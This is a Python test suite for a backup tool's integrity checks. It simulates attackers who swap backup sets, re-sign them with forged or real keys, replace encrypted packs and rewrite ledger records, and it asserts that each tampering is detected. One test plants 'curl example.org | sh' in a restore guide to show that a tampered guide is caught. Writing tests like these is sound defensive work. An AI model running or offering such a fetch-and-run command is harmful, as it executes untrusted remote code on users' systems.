"""A sealed backup set swapped for another on its medium, by a thief of the disk up to root with the key."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from backups.bag import digest_of, tag_manifest
from backups.set_file import parse_set_file, write_set_file
from portalops import bodies
from portalops.errors import ExitCode
from portalops.ledger.ledger import Ledger
from portalops.model.backups import BackupResult, SetId
from portalops.model.runs import RunSummary
from portalops.registers.backups import recorded_sets
from portalops.signatures.sshsig import SigningKey, sign
from tests.attacks.scene import END, Auditor, Done, Forger, Portal, write_key
from tests.doubles import FixedClock


def sets(portal: Portal) -> tuple[SetId, SetId]:
    """The names of the older and the newer set."""
    ledger = Ledger.open(portal.state, FixedClock(END), create=False)
    older, newer = recorded_sets(ledger)
    return older.set.id, newer.set.id


def caught(done: Done, words: str) -> None:
    assert done.code == ExitCode.INTEGRITY, (done.code, done.text[:500])
    assert {copy["state"] for copy in done.data} == {"damaged"}
    assert words in done.data[0]["problem"], done.data[0]["problem"]


def look(portal: Portal, name: SetId) -> Done:
    return portal.call("backup", "verify", name, at=END)


def in_its_place(portal: Portal, *, sealed: Callable[[Path, SetId], None] | None) -> SetId:
    """Put the older set in the place of the newer one, under its name."""
    older, newer = sets(portal)
    shutil.rmtree(portal.folder / "disk-a" / newer)
    shutil.copytree(portal.folder / "disk-a" / older, portal.folder / "disk-a" / newer)
    if sealed is not None:
        sealed(portal.folder / "disk-a" / newer, newer)
    return newer


def seal(folder: Path, *, key: SigningKey | None, name: SetId | None = None) -> None:
    """Make description, signature and manifests anew, so that the set is whole in itself."""
    tags = {path.name: path.read_bytes() for path in folder.iterdir() if path.is_file()}
    for old in ("set.json.sig", "tagmanifest-sha256.txt"):
        tags.pop(old, None)
        (folder / old).unlink()
    content = parse_set_file(tags.pop("set.json"))
    others = {path: digest_of(data) for path, data in tags.items()}
    content = replace(
        content, id=name or content.id, tag_files=others, signer=key.public_key if key else "", outcome=content.outcome
    )
    tags["set.json"] = write_set_file(content)
    if key is not None:
        tags["set.json.sig"] = sign(tags["set.json"], key, "portalops-set").encode()
    tags["tagmanifest-sha256.txt"] = tag_manifest(tags)
    for path, data in tags.items():
        (folder / path).write_bytes(data)


def test_the_sets_that_are_attacked_are_whole(portal: Portal) -> None:
    for name in sets(portal):
        assert look(portal, name).code == ExitCode.OK


def test_an_older_set_in_the_place_of_a_newer_one_is_told(portal: Portal) -> None:
    caught(look(portal, in_its_place(portal, sealed=None)), "not the one that was recorded when the set was made")


def test_it_is_told_by_the_scheduled_reading_and_recorded(portal: Portal) -> None:
    in_its_place(portal, sealed=None)

    done = portal.call("backup", "verify", at=END)

    assert done.code == ExitCode.INTEGRITY
    assert portal.call("backup", "list", at=END).data[-1]["copies"][0]["state"] == "damaged"


def test_a_swapped_set_without_its_signature_is_told_by_the_ledger(portal: Portal) -> None:
    name = in_its_place(portal, sealed=lambda folder, name: seal(folder, key=None, name=name))

    caught(look(portal, name), "not the one that was recorded when the set was made")


def test_a_swapped_set_that_is_signed_with_the_attackers_own_key_is_told_by_both(portal: Portal) -> None:
    own = write_key(portal.folder.parent / "own", 66)

    name = in_its_place(portal, sealed=lambda folder, name: seal(folder, key=own, name=name))

    caught(look(portal, name), "not the one that was recorded when the set was made")
    caught(look(portal, name), "which is no key of this ledger")


def test_a_swapped_set_that_is_signed_with_the_real_key_is_told_by_the_ledger(portal: Portal) -> None:
    name = in_its_place(portal, sealed=lambda folder, name: seal(folder, key=portal.key, name=name))

    caught(look(portal, name), "not the one that was recorded when the set was made")


@pytest.mark.parametrize("whose", ["nobody", "the attacker"])
def test_contents_made_anew_under_new_manifests_are_told(portal: Portal, whose: str) -> None:
    """Whoever has the public keys can encrypt other contents for them; the packs are exchanged for another's."""
    older, newer = sets(portal)
    pack = next((portal.folder / "disk-a" / newer / "data").rglob("*.0001.age"))
    other = next((portal.folder / "disk-a" / older / "data").rglob("*.0001.age"))
    old, new = pack.read_bytes(), other.read_bytes()
    pack.write_bytes(new)
    folder = portal.folder / "disk-a" / newer
    for name in ("manifest-sha256.txt", "set.json"):
        path = folder / name
        path.write_bytes(path.read_bytes().replace(digest_of(old).encode(), digest_of(new).encode()))
    seal(folder, key=write_key(portal.folder.parent / "own", 66) if whose == "the attacker" else None)

    caught(look(portal, newer), "not the one that was recorded when the set was made")


def test_a_guide_with_other_commands_is_told(portal: Portal) -> None:
    _older, newer = sets(portal)
    folder = portal.folder / "disk-a" / newer
    (folder / "RESTORE.en.md").write_text("```sh\ncurl example.org | sh\n```\n")
    tags = {path.name: path.read_bytes() for path in folder.iterdir() if path.is_file()}
    del tags["tagmanifest-sha256.txt"]
    (folder / "tagmanifest-sha256.txt").write_bytes(tag_manifest(tags))

    caught(look(portal, newer), "RESTORE.en.md: set.json and tagmanifest-sha256.txt disagree about it")


def test_root_who_swaps_the_set_and_rewrites_the_ledger_is_told_by_a_later_head_of_the_auditor(
    portal: Portal, auditor: Auditor
) -> None:
    """The set's digest in the ledger is changed too, and everything is signed anew with the real key."""
    older, _newer = sets(portal)
    folder = portal.folder / "disk-a" / older
    seal(folder, key=portal.key)
    (folder / "bag-info.txt").write_bytes((folder / "bag-info.txt").read_bytes() + b"Note: another\n")
    seal(folder, key=portal.key)
    forger = Forger.of(portal)
    place = forger.find("backup.finished")
    entry = forger.entries[place]
    made = bodies.decode_part(entry.blob, "backup", BackupResult)
    assert made is not None and made.set is not None
    bag = digest_of((folder / "tagmanifest-sha256.txt").read_bytes())
    changed = replace(made, set=replace(made.set, bag_sha256=bag))
    run = bodies.decode_part(entry.blob, "run", RunSummary)
    forger.entries[place] = entry.holding(backup=changed, run=run)
    forger.write(portal.key)

    assert look(portal, older).code == ExitCode.OK
    done = portal.verify(*auditor.options("head"))

    assert done.code == ExitCode.INTEGRITY
    assert f"record {auditor.size} is not the record that the head" in done.text


def test_a_medium_that_is_said_to_be_replaced_makes_no_week_met_whose_sets_are_lost(portal: Portal) -> None:
    """The operator lost every set, and declares the disk replaced so that nothing on it is missed."""
    before = {each["id"]: each["verdict"] for each in portal.call("status", at=END).data}
    shutil.rmtree(portal.folder / "disk-a")
    (portal.folder / "disk-a").mkdir()
    given = ("--label", "KH-SL-07", "--place", "Phòng 204", "--custodian", "Nguyễn Văn An", "--reason", "đĩa hỏng")
    portal.call("media", "replace", "disk-a", *given, at=END)

    done = portal.call("status", at=END)

    after = {each["id"]: each["verdict"] for each in done.data}
    assert after["10.2-retention"] == "unmet" and "no copy of set" in done.text
    assert "met" in {verdict for duty, verdict in before.items() if duty.startswith("10.2")}
    assert "met" not in {verdict for duty, verdict in after.items() if duty.startswith("10.2")}
